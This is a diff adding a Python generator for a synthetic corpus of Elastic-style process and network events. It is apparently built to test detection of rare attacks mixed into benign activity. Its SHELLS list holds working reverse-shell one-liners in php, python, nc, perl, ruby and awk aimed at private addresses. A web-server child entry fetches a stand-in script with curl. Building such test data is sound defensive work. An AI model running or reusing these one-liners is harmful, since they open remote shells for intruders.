@@ -1,0 +1,105 @@
+"""Seeded corpus of ECS process and network events, shaped like Elastic Defend's (about 650 bytes each).
+
+0.1% reverse shells of several families, about 2% web-server children, and the network events the
+seed sequence needs; everything else is ordinary process starts. No blobs: the corpus is generated.
+"""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Iterator
+from typing import Any
+
+import msgspec
+
+__all__ = ["events", "write_corpus"]
+
+BENIGN = [
+    ("ls", ["ls", "-la", "/var/log"]), ("systemctl", ["systemctl", "status", "nginx.service"]),
+    ("grep", ["grep", "-r", "ERROR", "/var/log/app"]), ("cat", ["cat", "/etc/os-release"]),
+    ("python3", ["python3", "/opt/app/manage.py", "migrate"]), ("curl", ["curl", "-s", "https://api.internal/health"]),
+    ("ps", ["ps", "aux"]), ("tar", ["tar", "czf", "/backup/etc.tgz", "/etc"]), ("sshd", ["sshd", "-D"]),
+    ("git", ["git", "pull", "--rebase"]), ("bash", ["bash", "-c", "echo $HOME"]), ("awk", ["awk", "{print $1}"]),
+]
+SHELLS = [
+    ("php", ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']),
+    ("python3", ["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.7",4444));'
+                                  '[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")']),
+    ("nc", ["nc", "10.9.8.7", "4444", "-e", "/bin/sh"]),
+    ("perl", ["perl", "-e", 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");']),
+    ("ruby", ["ruby", "-rsocket", "-e", 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)']),
+    ("awk", ["awk", 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c} }}']),
+]
+WEB_PARENTS = [("apache2", "/usr/sbin/apache2"), ("nginx", "/usr/sbin/nginx"), ("php-fpm7.4", "/usr/sbin/php-fpm7.4")]
+WEB_CHILDREN = [("sh", ["sh", "-c", "id"]), ("whoami", ["whoami"]), ("bash", ["bash", "-i"]), ("curl", ["curl", "http://x/a.sh"])]
+
+
+def _process(rng: random.Random, i: int, ts: str, name: str, args: list[str], parent: tuple[str, str],
+             user: tuple[str, str], cwd: str) -> dict[str, Any]:
+    return {
+        "@timestamp": ts,
+        "agent": {"id": "4f1c6e0a-2d4b-4c8e-9a31-0b6f2e1d7c55", "type": "endpoint", "version": "8.15.0"},
+        "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"},
+        "ecs": {"version": "8.10.0"},
+        "event": {"action": "exec", "category": ["process"], "dataset": "endpoint.events.process",
+                  "id": f"NqR{rng.getrandbits(48):012x}", "kind": "event", "module": "endpoint", "type": ["start"]},
+        "host": {"id": f"h{i % 50:03d}-9c1e0b7a", "name": f"web-{i % 50:02d}",
+                 "os": {"type": "linux", "family": "debian", "kernel": "6.1.0-18-amd64"}},
+        "process": {
+            "args": args, "args_count": len(args), "command_line": " ".join(args),
+            "entity_id": f"Y2Y{i:010d}", "executable": f"/usr/bin/{name}", "name": name,
+            "pid": 1000 + i % 60000, "working_directory": cwd,
+            "parent": {"entity_id": f"Y2P{i:010d}", "executable": parent[1], "name": parent[0], "pid": 900},
+        },
+        "user": {"id": user[1], "name": user[0]},
+    }
+
+
+def _network(i: int, ts: str, name: str) -> dict[str, Any]:
+    return {
+        "@timestamp": ts,
+        "event": {"action": "connection_attempted", "category": ["network"], "kind": "event", "type": ["start"]},
+        "host": {"id": f"h{i % 50:03d}-9c1e0b7a", "os": {"type": "linux"}},
+        "process": {"entity_id": f"Y2Y{i:010d}", "name": name, "pid": 1000 + i % 60000},
+        "destination": {"ip": "10.10.10.10", "port": 9001}, "source": {"ip": "10.0.0.5", "port": 51234},
+        "network": {"direction": "egress", "transport": "tcp"},
+    }
+
+
+def events(n: int, seed: int = 42) -> Iterator[dict[str, Any]]:
+    """n events: 0.1% reverse shells (each followed by its connection), ~2% web-server children."""
+    rng = random.Random(seed)
+    emitted = 0
+    i = 0
+    while emitted < n:
+        i += 1
+        ts = f"2026-11-22T10:{(i // 600) % 60:02d}:{(i // 10) % 60:02d}.{(i % 10) * 100:03d}Z"
+        r = rng.random()
+        if r < 0.001:
+            name, args = rng.choice(SHELLS)
+            yield _process(rng, i, ts, name, args, ("bash", "/bin/bash"), ("root", "0"), "/tmp")
+            emitted += 1
+            if emitted < n:
+                yield _network(i, ts, name)
+                emitted += 1
+            continue
+        if r < 0.021:
+            name, args = rng.choice(WEB_CHILDREN)
+            parent = rng.choice(WEB_PARENTS)
+            yield _process(rng, i, ts, name, args, parent, ("www-data", "33"), "/var/www/html")
+        else:
+            name, args = rng.choice(BENIGN)
+            yield _process(rng, i, ts, name, args, ("bash", "/bin/bash"), ("deploy", "1000"), "/home/deploy")
+        emitted += 1
+
+
+def write_corpus(path: str, n: int, seed: int = 42) -> int:
+    """Write n events as NDJSON; returns the byte count."""
+    enc = msgspec.json.Encoder()
+    size = 0
+    with open(path, "wb") as f:
+        for ev in events(n, seed):
+            line = enc.encode(ev) + b"\n"
+            size += len(line)
+            f.write(line)
+    return size
